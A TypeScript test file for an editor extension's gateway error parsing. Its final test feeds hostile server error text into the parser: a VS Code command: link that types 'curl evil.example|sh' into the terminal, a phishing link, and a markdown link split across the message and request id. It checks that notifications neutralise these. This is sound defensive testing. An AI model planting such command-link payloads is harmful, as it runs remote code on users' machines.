import { test } from 'node:test';
import assert from 'node:assert/strict';
import { errorFromResponse } from '../../../src/gateway/errorBody';
import { errorText } from '../../../src/gateway/errors';

/** How VS Code's notifications find links in their message (parseLinkedText, src/vs/base/common/linkedText.ts, as in VS Code 1.139). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

test('OpenAI envelope with status_code', () => {
  const e = errorFromResponse(
    404,
    JSON.stringify({
      error: { message: 'The model `x` does not exist.', type: 'invalid_request_error', param: null, code: 'model_not_found', status_code: 404 },
    }),
    'application/json',
    'req_1',
    undefined,
  );
  assert.equal(e.message, 'The model `x` does not exist.');
  assert.equal(e.code, 'model_not_found');
  assert.equal(e.type, 'invalid_request_error');
  assert.equal(e.requestId, 'req_1');
  assert.match(e.userMessage, /Select Model/);
  assert.match(e.userMessage, /req_1/);
});

test('upstream vendor envelope keeps the param', () => {
  const e = errorFromResponse(
    400,
    JSON.stringify({ error: { code: 'InvalidParameter', message: 'bad image', param: 'content[0].image_url.url', type: 'BadRequest' } }),
    'application/json',
    undefined,
    undefined,
  );
  assert.equal(e.code, 'InvalidParameter');
  assert.equal(e.param, 'content[0].image_url.url');
  assert.match(e.userMessage, /content\[0\]\.image_url\.url/);
});

test('FastAPI detail object and validation list', () => {
  const obj = errorFromResponse(
    400,
    JSON.stringify({ detail: { error: 'validation_error', message: 'Voice xx not found', type: 'invalid_request_error' } }),
    'application/json',
    undefined,
    undefined,
  );
  assert.equal(obj.message, 'Voice xx not found');
  assert.equal(obj.code, 'validation_error');
  const list = errorFromResponse(
    422,
    JSON.stringify({ detail: [{ loc: ['body', 'speed'], msg: 'must be <= 4', type: 'value_error' }] }),
    'application/json',
    undefined,
    undefined,
  );
  assert.equal(list.message, 'speed: must be <= 4');
});

test('plain text, HTML and empty bodies', () => {
  assert.equal(errorFromResponse(502, 'upstream connect error', 'text/plain', undefined, undefined).message, 'upstream connect error');
  assert.equal(
    errorFromResponse(503, '<html><head><title>503 Service Temporarily Unavailable</title></head><body>nginx</body></html>', 'text/html', undefined, undefined)
      .message,
    '503 Service Temporarily Unavailable',
  );
  assert.equal(errorFromResponse(500, '', undefined, undefined, undefined).message, 'The gateway answered HTTP 500 Internal Server Error.');
  assert.equal(errorFromResponse(500, '{"error": "boom"}', 'application/json', undefined, undefined).message, 'boom');
});

test('advice: 401 set the key, 429 when to retry, 400 which field', () => {
  assert.match(
    errorFromResponse(401, '{"error":{"message":"Invalid key","code":"invalid_api_key"}}', 'application/json', undefined, undefined).userMessage,
    /Set API Key/,
  );
  assert.match(
    errorFromResponse(429, '{"error":{"message":"Too many","code":"rate_limit_exceeded"}}', 'application/json', undefined, 3000).userMessage,
    /retry in 3 s/,
  );
  assert.match(errorFromResponse(400, '{"error":{"message":"bad","param":"stop"}}', 'application/json', undefined, undefined).userMessage, /field "stop"/);
});

test("an object store's XML error (a signed media link) gives its message and code", () => {
  const xml =
    '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code><Message>Request has expired</Message><Resource>/files/a.mp4</Resource></Error>';
  const e = errorFromResponse(403, xml, 'application/xml', 'req_9', undefined);
  assert.equal(e.message, 'Request has expired');
  assert.equal(e.code, 'AccessDenied');
  assert.equal(errorFromResponse(404, '<Error><Code>NoSuchKey</Code></Error>', 'application/xml', undefined, undefined).message, 'NoSuchKey');
});

test('a JSON error cut short (only its start was read) still gives its message and code', () => {
  const cut = `{"error":{"message":"The upstream said \\"no\\".","type":"server_error","code":"upstream_error","padding":"${'x'.repeat(500)}`;
  const e = errorFromResponse(500, cut, 'application/json', undefined, undefined);
  assert.equal(e.message, 'The upstream said "no".');
  assert.equal(e.code, 'upstream_error');
  assert.equal(e.type, 'server_error');
  const beforeMessage = errorFromResponse(500, '{"error":{"padding":"xxxx', 'application/json', undefined, undefined);
  assert.equal(beforeMessage.message, '{"error":{"padding":"xxxx', 'no message field: the text itself');
});

test("Mistral's 422: FastAPI's validation detail wrapped in message becomes the message", () => {
  const body = JSON.stringify({
    object: 'error',
    message: { detail: [{ type: 'extra_forbidden', loc: ['body', 'stream_options'], msg: 'Extra inputs are not permitted', input: {} }] },
    type: 'invalid_request_message_error',
    param: null,
    code: null,
  });
  const error = errorFromResponse(422, body, 'application/json', 'req_9', undefined);
  assert.equal(error.message, 'stream_options: Extra inputs are not permitted');
  assert.equal(error.type, 'invalid_request_message_error');
});

test('errorText: the one way an error becomes text for the user (GatewayError with advice and request id, else the message)', () => {
  const gateway = errorFromResponse(429, JSON.stringify({ error: { message: 'Slow down.' } }), 'application/json', 'req_7', undefined);
  assert.equal(errorText(gateway), gateway.userMessage);
  assert.match(errorText(gateway), /req_7/);
  assert.equal(errorText(new Error('disk full')), 'disk full');
  assert.equal(errorText('plain'), 'plain');
});

test("a server's error text cannot put a link in a notification (VS Code opens those with commands allowed)", () => {
  const runs = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D';
  for (const [body, requestId] of [
    [JSON.stringify({ error: { message: `Quota exceeded. [Check your quota](${runs})`, code: 'insufficient_quota' } }), 'req_1'],
    [JSON.stringify({ detail: `[Sign in again](${runs} "Sign in")` }), undefined],
    ['<Error><Code>x</Code><Message>[Renew the link](https://evil.example/phish)</Message></Error>', undefined],
    // The message opens a label that the request id (a response header) closes with its target.
    [JSON.stringify({ error: { message: '[Retry' } }), `](${runs})`],
  ] as const) {
    const shown = errorText(errorFromResponse(429, body, 'application/json', requestId, undefined));
    assert.deepEqual(shown.match(NOTIFICATION_LINK), null, shown);
    assert.ok(shown.includes(runs.slice(0, 40)) || shown.includes('evil.example'), `the target stays readable: ${shown}`);
  }
  assert.equal(errorText(new Error('[a](command:x)')), '[a] (command:x)');
});
